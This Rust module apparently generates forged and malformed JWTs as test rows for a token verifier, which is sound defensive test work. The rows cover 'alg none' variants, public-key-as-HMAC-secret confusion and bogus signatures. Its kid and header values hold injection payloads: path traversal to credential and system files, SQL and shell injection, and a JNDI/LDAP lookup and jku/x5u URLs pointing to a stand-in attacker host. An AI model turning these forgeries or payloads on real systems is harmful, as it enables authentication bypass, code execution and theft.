//! Heads that would choose algorithm or key, or ask for what we do not do.
use serde_json::{Value, json};

use super::{Material, Rows};
use crate::forge::{Key, encoded, key_set};

pub fn add(of: &Material, rows: &mut Rows) -> anyhow::Result<()> {
    algorithms(of, rows)?;
    public_keys_as_secrets(of, rows)?;
    signatures_of_nothing(of, rows)?;
    names(of, rows)?;
    demands(of, rows)
}

fn with(mut header: Value, name: &str, value: Value) -> Value {
    header[name] = value;
    header
}

fn algorithms(of: &Material, rows: &mut Rows) -> anyhow::Result<()> {
    let good = of.rsa.header(Some("rsa"));
    let unsigned = |alg: &str, signature: &str| {
        let head = encoded(json!({"alg": alg, "typ": "JWT"}).to_string());
        format!("{head}.{}.{signature}", encoded(of.claims().to_string()))
    };
    rows.add("form", "alg none without a signature", unsigned("none", ""));
    for alg in ["none", "None", "NONE", "nOnE", "", "rs256", "RS256 ", "RS256\u{0}"] {
        rows.add(
            "algorithm",
            format!("alg {alg:?} with a signature"),
            unsigned(alg, "AAAA"),
        );
    }
    for alg in [
        "RS384", "RS512", "PS256", "PS512", "ES384", "ES512", "ES256K", "HS384", "HS512", "Ed25519", "Ed448",
        "RSA-OAEP", "dir", "A128GCM",
    ] {
        let header = with(good.clone(), "alg", json!(alg));
        rows.add("algorithm", format!("alg {alg}"), of.rsa.token(header, of.claims())?);
    }
    for alg in [
        json!(null),
        json!(256),
        json!(["RS256"]),
        json!({"RS256": true}),
        json!(true),
    ] {
        let header = with(good.clone(), "alg", alg.clone());
        rows.add("header", format!("alg {alg}"), of.rsa.token(header, of.claims())?);
    }
    rows.add("header", "no alg", of.rsa.token(json!({"kid": "rsa"}), of.claims())?);
    for (name, key, kid, alg) in [
        ("an RSA signature called ES256", &of.rsa, "rsa", "ES256"),
        ("an RSA signature called EdDSA", &of.rsa, "rsa", "EdDSA"),
        ("an EC signature called RS256", &of.ec, "ec", "RS256"),
        ("an Ed25519 signature called RS256", &of.ed, "ed", "RS256"),
        (
            "the secret's signature under an RSA key's name",
            &of.secret,
            "rsa",
            "HS256",
        ),
        ("the secret's signature called RS256", &of.secret, "secret", "RS256"),
    ] {
        let header = json!({"alg": alg, "kid": kid});
        rows.add("key", name, key.token(header, of.claims())?);
    }
    let twice = r#"{"alg":"HS256","kid":"rsa","alg":"RS256"}"#;
    rows.add("header", "two algs", of.rsa.token(twice, of.claims())?);
    let escaped = r#"{"alg":"HS256","kid":"rsa","\u0061lg":"RS256"}"#;
    rows.add(
        "header",
        "two algs, one in disguise",
        of.rsa.token(escaped, of.claims())?,
    );
    Ok(())
}

/// The oldest trick: what everybody knows of an asymmetric key, taken for a secret.
fn public_keys_as_secrets(of: &Material, rows: &mut Rows) -> anyhow::Result<()> {
    for (kid, key) in [("rsa", &of.rsa), ("ec", &of.ec), ("ed", &of.ed)] {
        let pem = key.public_pem()?;
        let jwk = key.jwk(kid);
        for (name, secret) in [
            ("PEM", pem.clone().into_bytes()),
            ("PEM without its last line break", pem.trim_end().as_bytes().to_vec()),
            ("DER", key.public_der()?),
            ("JWK", jwk.to_string().into_bytes()),
            ("key set", key_set(&[jwk]).into_bytes()),
        ] {
            let forged = Key::Secret(secret);
            let token = forged.token(forged.header(Some(kid)), of.claims())?;
            rows.add("key", format!("the {name} of {kid} as a secret, by its name"), token);
            let token = forged.token(forged.header(None), of.claims())?;
            rows.add(
                "signature",
                format!("the {name} of {kid} as a secret, without a name"),
                token,
            );
        }
    }
    for (name, secret) in [("nothing", &b""[..]), ("a zero", b"\0"), ("secret", b"secret")] {
        let forged = Key::Secret(secret.to_vec());
        let token = forged.token(forged.header(None), of.claims())?;
        rows.add("signature", format!("signed with {name}"), token);
    }
    Ok(())
}

fn signatures_of_nothing(of: &Material, rows: &mut Rows) -> anyhow::Result<()> {
    for (kid, key, lengths) in [
        ("rsa", &of.rsa, &[1, 256][..]),
        ("ec", &of.ec, &[1, 63, 64, 65]),
        ("ed", &of.ed, &[1, 64]),
    ] {
        let head = encoded(key.header(Some(kid)).to_string());
        let message = format!("{head}.{}", encoded(of.claims().to_string()));
        for length in lengths {
            let zeros = encoded(vec![0; *length]);
            rows.add(
                "signature",
                format!("{length} zeros for {kid}"),
                format!("{message}.{zeros}"),
            );
        }
        let other = encoded(of.stranger.sign(message.as_bytes())?);
        rows.add(
            "signature",
            format!("a stranger's signature for {kid}"),
            format!("{message}.{other}"),
        );
    }
    // DER, as X.509 writes ECDSA signatures and tokens must not.
    let head = encoded(of.ec.header(Some("ec")).to_string());
    let message = format!("{head}.{}", encoded(of.claims().to_string()));
    let fixed = of.ec.sign(message.as_bytes())?;
    let number = |bytes: &[u8]| [&[2, 33, 0][..], bytes].concat();
    let der = [vec![0x30, 70], number(&fixed[..32]), number(&fixed[32..])].concat();
    rows.add(
        "signature",
        "an EC signature in DER",
        format!("{message}.{}", encoded(der)),
    );
    rows.add("signature", "another key's signature", of.badly_signed()?);
    Ok(())
}

fn names(of: &Material, rows: &mut Rows) -> anyhow::Result<()> {
    let named = |kid: Value| with(of.rsa.header(None), "kid", kid);
    for kid in [
        "",
        "RSA",
        "rsa ",
        " rsa",
        "rsa\u{0}",
        "rsa\u{200b}",
        "rs\u{430}",
        "rsa-3",
        "*",
        "../../../../dev/null",
        "/proc/self/environ",
        "file:///etc/passwd",
        "https://attacker.example/keys",
        "' or '1'='1",
        "rsa'; drop table leads; --",
        "rsa|id",
        "$(id)",
        "{{7*7}}",
        "${jndi:ldap://attacker.example/a}",
        "onekeel:lead",
        "onekeel:",
        "💣",
    ] {
        let token = of.rsa.token(named(json!(kid)), of.claims())?;
        rows.add("key", format!("kid {kid:?}"), token);
    }
    let token = of
        .stranger
        .token(with(of.stranger.header(None), "kid", json!("unknown")), of.claims())?;
    rows.add("key", "a stranger's key under its own name", token);
    rows.add(
        "key",
        "no kid where keys have one",
        of.rsa.token(of.rsa.header(None), of.claims())?,
    );
    for (name, kid) in [
        ("kid of 201 letters", json!("k".repeat(201))),
        ("kid of 5000 letters", json!("k".repeat(5000))),
        ("kid 7", json!(7)),
        ("kid in a list", json!(["rsa"])),
        ("kid in an object", json!({"rsa": "rsa"})),
    ] {
        rows.add("header", name, of.rsa.token(named(kid), of.claims())?);
    }
    let twice = r#"{"alg":"RS256","kid":"unknown","kid":"rsa"}"#;
    rows.add("header", "two kids", of.rsa.token(twice, of.claims())?);
    for kid in ["../../../../dev/null", "' union select 'secret' --"] {
        let forged = Key::Secret(Vec::new());
        let token = forged.token(forged.header(Some(kid)), of.claims())?;
        rows.add("signature", format!("signed with nothing, kid {kid:?}"), token);
    }
    Ok(())
}

fn demands(of: &Material, rows: &mut Rows) -> anyhow::Result<()> {
    let address = json!("https://attacker.example/keys");
    for (name, value) in [
        ("crit", json!(["exp"])),
        ("crit", json!([])),
        ("crit", json!(["https://example.com/unknown"])),
        ("b64", json!(false)),
        ("b64", json!(true)),
        ("jku", address.clone()),
        ("x5u", address),
        ("x5c", json!(["AAAA"])),
        ("jwk", of.rsa.jwk("rsa")),
        ("cty", json!("JWT")),
        ("zip", json!("DEF")),
        ("enc", json!("A128GCM")),
        ("typ", json!("dpop+jwt")),
        ("typ", json!("logout+jwt")),
        ("typ", json!("secevent+jwt")),
        ("typ", json!("JWE")),
        ("typ", json!("")),
        ("typ", json!(1)),
        ("typ", json!(["JWT"])),
    ] {
        let header = with(of.rsa.header(Some("rsa")), name, value.clone());
        let token = of.rsa.token(header, of.claims())?;
        rows.add("header", format!("{name} {value}, signed well"), token);
    }
    // Brings its own key along and signs with it.
    let own = with(of.stranger.header(Some("rsa")), "jwk", of.stranger.jwk("rsa"));
    rows.add(
        "header",
        "jwk of a stranger's own",
        of.stranger.token(own, of.claims())?,
    );
    Ok(())
}
